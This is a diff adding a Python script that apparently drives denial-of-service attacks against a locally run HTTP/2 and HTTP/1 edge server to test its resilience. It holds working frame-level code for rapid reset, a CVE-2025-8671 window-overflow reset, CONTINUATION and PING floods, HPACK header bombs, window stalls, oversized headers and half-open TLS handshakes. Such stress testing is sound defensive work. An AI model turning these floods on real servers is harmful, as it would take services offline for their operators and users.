@@ -1,0 +1,235 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""attacks.py NAME PORT CAFILE PATH SECONDS: attacks an edge in one way, coming back whenever it is cut off. Prints
+{"connections": n, "cut": n} in JSON. A process of its own, so that it takes no time from who measures."""
+import json
+import os
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import h2
+from h2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, H2, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
+                WINDOW_UPDATE, frame)
+
+
+class Attack:
+    def __init__(self, port, cafile, path, seconds):
+        self.port, self.cafile, self.path = port, cafile, path
+        self.until = time.monotonic() + seconds
+        self.connections, self.cut = 0, 0
+
+    def over(self):
+        return time.monotonic() >= self.until
+
+    def drain(self, c):
+        """Reads what is there without waiting, as a client would that does not want to be stopped by its own buffer."""
+        c.sock.setblocking(False)
+        try:
+            while True:
+                if not c.sock.recv(1 << 16):
+                    raise ConnectionResetError
+        except (ssl.SSLWantReadError, BlockingIOError):
+            pass
+        finally:
+            c.sock.settimeout(20)
+
+    def flood(self, make, settings=b"", before=None):
+        """Sends make(connection) again and again."""
+        while not self.over():
+            try:
+                c = H2(self.port, self.cafile, settings)
+            except OSError:
+                continue
+            self.connections += 1
+            try:
+                if before:
+                    c.send(before(c))
+                while not self.over():
+                    c.send(make(c))
+                    self.drain(c)
+            except (OSError, ssl.SSLError):
+                self.cut += 1
+            c.close()
+
+    # --- HTTP/2 ---
+
+    def rapid_reset(self):
+        def make(c):
+            out = b""
+            for _ in range(50):
+                n = c.stream()
+                out += frame(HEADERS, END_HEADERS | END_STREAM, n, h2.block(self.path))
+                out += frame(RST_STREAM, 0, n, struct.pack(">I", 8))
+            return out
+        self.flood(make)
+
+    def made_reset(self):
+        """The server is made to reset: an increment that overflows the stream's window (CVE-2025-8671)."""
+        def make(c):
+            out = b""
+            for _ in range(50):
+                n = c.stream()
+                out += frame(HEADERS, END_HEADERS | END_STREAM, n, h2.block(self.path))
+                out += frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0x7fffffff))
+            return out
+        self.flood(make)
+
+    def continuation(self):
+        self.flood(lambda c: frame(CONTINUATION, 0, 1, h2.literal("x", "y" * 100)) * 20,
+                   before=lambda c: frame(HEADERS, END_STREAM, c.stream(), h2.block(self.path)))
+
+    def empty_continuation(self):
+        self.flood(lambda c: frame(CONTINUATION, 0, 1) * 100,
+                   before=lambda c: frame(HEADERS, END_STREAM, c.stream(), h2.block(self.path)))
+
+    def settings(self):
+        self.flood(lambda c: frame(SETTINGS, 0, 0, h2.setting(4, 65535)) * 100)
+
+    def empty_settings(self):
+        self.flood(lambda c: frame(SETTINGS, 0, 0) * 100)
+
+    def ping(self):
+        self.flood(lambda c: frame(PING, 0, 0, os.urandom(8)) * 100)
+
+    def priority(self):
+        self.flood(lambda c: b"".join(frame(PRIORITY, 0, 1 + 2 * (i % 3), struct.pack(">IB", 7 + 2 * (i % 4), i))
+                                      for i in range(100)))
+
+    def empty_data(self):
+        self.flood(lambda c: frame(DATA, 0, 1) * 100,
+                   before=lambda c: frame(HEADERS, END_HEADERS, c.stream(), h2.block(self.path, method="POST")))
+
+    def window_updates(self):
+        self.flood(lambda c: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100)
+
+    def zero_windows(self):
+        self.flood(lambda c: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0)) * 50,
+                   before=lambda c: frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path)))
+
+    def unknown_frames(self):
+        self.flood(lambda c: frame(0xbe, 0xff, 0, b"x" * 10) * 100)
+
+    def header_bomb(self):
+        """An entry of 4 KB in the table, named by thousands of single bytes."""
+        def make(c):
+            entry = h2.literal("bomb", "b" * 3900, first=0x40)
+            return (frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path) + entry) +
+                    frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path) + b"\xbe" * 14000))
+        self.flood(make)
+
+    def huge_fields(self):
+        self.flood(lambda c: frame(HEADERS, 0x1, n := c.stream(), h2.block(self.path)) +
+                   frame(CONTINUATION, 0, n, b"\x00\x01x" + h2.integer(7, 0, 60000) + b"c" * 16000) +
+                   frame(CONTINUATION, 0, n, b"c" * 16000) * 2)
+
+    def window_stall(self):
+        """A hundred answers of which nothing may be sent."""
+        kept = []
+        while not self.over():
+            try:
+                c = H2(self.port, self.cafile, h2.setting(4, 0))
+                c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path))
+                                for _ in range(90)))
+                kept.append(c)
+                self.connections += 1
+                time.sleep(0.02 if len(kept) < 20 else 0.2)
+            except OSError:
+                self.cut += 1
+
+    def read_nothing(self):
+        """Windows wide open, and nothing is read."""
+        kept = []
+        while not self.over():
+            try:
+                c = H2(self.port, self.cafile, h2.setting(4, 0x7fffffff), receive_buffer=4096)
+                c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000 - 65535)))
+                c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path))
+                                for _ in range(90)))
+                kept.append(c)
+                self.connections += 1
+                time.sleep(0.02 if len(kept) < 20 else 0.2)
+            except OSError:
+                self.cut += 1
+
+    def pings_unread(self):
+        """Answers that nobody takes must not pile up."""
+        while not self.over():
+            try:
+                c = H2(self.port, self.cafile, receive_buffer=4096)
+                self.connections += 1
+                c.sock.settimeout(0.5)
+                while not self.over():
+                    c.send(frame(PING, 0, 0, b"12345678") * 300)
+            except OSError:
+                self.cut += 1
+
+    def garbage(self):
+        self.flood(lambda c: os.urandom(5000))
+
+    def oversized(self):
+        self.flood(lambda c: struct.pack(">I", 0xffffff)[1:] + bytes((DATA, 0)) + struct.pack(">I", 1) + b"x" * 1000)
+
+    # --- HTTP/1 ---
+
+    def one(self):
+        c = h2.connect(self.port, self.cafile, alpn="http/1.1")
+        self.connections += 1
+        return c
+
+    def large_heads(self):
+        while not self.over():
+            try:
+                with self.one() as c:
+                    c.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
+                    while not self.over():
+                        c.sendall(b"x: " + b"y" * 8000 + b"\r\n")
+            except OSError:
+                self.cut += 1
+
+    def large_cookies(self):
+        while not self.over():
+            try:
+                with self.one() as c:
+                    c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\nCookie: ".encode() + b"c=" * 30000)
+                    c.sendall(b"\r\n\r\n")
+                    c.recv(1000)
+            except OSError:
+                self.cut += 1
+
+    def pipeline(self):
+        """Thousands of requests in a row, no answer read."""
+        while not self.over():
+            try:
+                with self.one() as c:
+                    c.settimeout(0.5)
+                    while not self.over():
+                        c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 200)
+            except OSError:
+                self.cut += 1
+
+    def handshakes(self):
+        """TLS that begins and goes no further."""
+        kept = []
+        while not self.over():
+            try:
+                raw = socket.create_connection(("127.0.0.1", self.port), timeout=5)
+                self.connections += 1
+                raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc" + os.urandom(20))
+                kept = kept[-400:] + [raw]
+                time.sleep(0.002)
+            except OSError:
+                self.cut += 1
+
+
+def main():
+    name, port, cafile, path, seconds = sys.argv[1:]
+    attack = Attack(int(port), cafile, path, float(seconds))
+    getattr(attack, name)()
+    print(json.dumps({"connections": attack.connections, "cut": attack.cut}))
+
+
+if __name__ == "__main__":
+    main()
